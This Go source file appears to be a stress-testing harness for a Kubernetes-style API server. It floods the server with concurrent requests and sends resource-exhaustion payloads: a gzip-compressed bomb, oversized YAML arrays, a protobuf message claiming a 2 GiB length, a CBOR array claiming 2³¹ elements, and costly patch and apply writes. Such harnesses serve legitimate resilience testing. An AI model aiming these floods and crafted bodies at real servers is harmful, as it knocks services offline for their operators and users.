package main

import (
	"bytes"
	"compress/gzip"
	"context"
	"encoding/binary"
	"fmt"
	"net/http"
	"slices"
	"strings"

	"kelson.dev/apiserver/attacktest/bodies"
)

// allSeats keeps 600 requests of one user in flight: lists, and dry-run writes. It sends at most
// 30,000.
func allSeats(ctx context.Context, t *target) error {
	t.flood(ctx, 600, 30_000, func(i int) (string, string, string, string, string, []string) {
		if i%3 == 0 {
			return editor, http.MethodPost, defaultMaps + "?dryRun=All", bodies.JSON,
				configMap(fmt.Sprint("dry", i), "x"), nil
		}
		return editor, http.MethodGet, defaultMaps, "", "", nil
	})
	return nil
}

// expandingBodies sends at most 400 bodies, 40 at a time, that need much more memory than their
// size.
func expandingBodies(ctx context.Context, t *target) error {
	yaml := "apiVersion: authorization.k8s.io/v1\nkind: SelfSubjectAccessReview\na: [" +
		strings.Repeat("a,", 3<<19-100) + "a]\n"
	var packed bytes.Buffer
	w := gzip.NewWriter(&packed)
	fmt.Fprintf(w, `{"apiVersion":"authorization.k8s.io/v1","kind":"SelfSubjectAccessReview","a":[%s0]}`,
		strings.Repeat("0,", 3<<19-100))
	if err := w.Close(); err != nil {
		return err
	}
	// A runtime.Unknown whose raw bytes (field 2) claim a length of 2 GiB.
	proto := "k8s\x00" + string(binary.AppendUvarint([]byte{0x12}, 2<<30)) + strings.Repeat("x", 1<<20)
	// The self-described tag, and an array that claims 2³¹ elements.
	cbor := "\xd9\xd9\xf7\x9a\x80\x00\x00\x00" + strings.Repeat("\x00", 1<<20)
	t.flood(ctx, 40, 400, func(i int) (string, string, string, string, string, []string) {
		switch i % 8 {
		case 1, 5:
			return norole, http.MethodPost, selfReview, bodies.JSON, packed.String(),
				[]string{"Content-Encoding", "gzip"}
		case 3:
			return norole, http.MethodPost, selfReview, "application/vnd.kubernetes.protobuf", proto, nil
		case 7:
			return norole, http.MethodPost, selfReview, "application/cbor", cbor, nil
		default:
			return norole, http.MethodPost, selfReview, bodies.YAML, yaml, nil
		}
	})
	return nil
}

// costly are the names of writes in package bodies.
var costly = []string{"strategic merge of env", "strategic merge: $setElementOrder of containers",
	"managedFields: appliers", "members: PATCH",
	"members: apply over another", "JSON patch: tests of a large list", "metadata: ownerReferences",
	"lists: topologySpreadConstraints"}

// stored is the scale of the writes: with it, servers accept all objects that the writes change. Of
// larger ones some exceed the 1.5 MiB that may be stored, together with their managedFields.
const stored = 0.1

func chosenBodies() (chosen []bodies.Attack) {
	for _, a := range bodies.All(stored) {
		if slices.Contains(costly, a.Name) {
			chosen = append(chosen, a)
		}
	}
	return chosen
}

// costlyObjects creates the objects that costly writes need.
func costlyObjects(ctx context.Context, t *target) error {
	for _, a := range chosenBodies() {
		for _, r := range a.Setup {
			if code, err := t.send(ctx, admin, r.Method, r.Path, r.Media, r.Body); err != nil ||
				code != http.StatusCreated {
				return fmt.Errorf("%s: %s %s: %d, %v", a.Name, r.Method, r.Path, code, err)
			}
		}
	}
	return nil
}

// costlyWrites sends at most 2,000 writes, 16 at a time.
func costlyWrites(ctx context.Context, t *target) error {
	chosen := chosenBodies()
	if len(chosen) != len(costly) {
		return fmt.Errorf("%d of %d attacks in package bodies", len(chosen), len(costly))
	}
	t.flood(ctx, 16, 2_000, func(i int) (string, string, string, string, string, []string) {
		r := chosen[i%len(chosen)].Request
		return editor, r.Method, r.Path, r.Media, r.Body, nil
	})
	return nil
}
